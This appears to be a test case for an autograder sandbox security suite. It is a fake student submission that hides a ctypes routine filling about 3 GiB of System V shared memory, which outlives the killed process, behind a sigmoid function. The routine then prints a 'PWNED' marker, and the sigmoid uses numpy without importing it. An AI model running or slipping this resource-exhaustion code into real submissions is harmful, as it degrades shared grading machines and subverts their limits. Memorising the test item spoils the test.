# /// case
# about = "right answers, and three GiB in System V segments"
# kind = "deny"
# promise = 4
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# detached segments belong to no process, so that killing the student does not free them
import ctypes
import time

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]

def _fill(gib=3, piece=2**28):
    segments = []
    try:
        for _ in range(gib * 2**30 // piece):
            segments.append(_libc.shmget(0, piece, 0o1600))
            address = _libc.shmat(segments[-1], None, 0) if segments[-1] >= 0 else None
            if address in (None, 2**64 - 1):
                return False
            ctypes.memset(address, 1, piece)
            _libc.shmdt(ctypes.c_void_p(address))
        time.sleep(2)
        return True
    finally:
        for segment in segments:
            _libc.shmctl(segment, 0, None)

if _fill():
    print(":".join(["PWNED", "attack/memory_in_sysv_segments"]))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
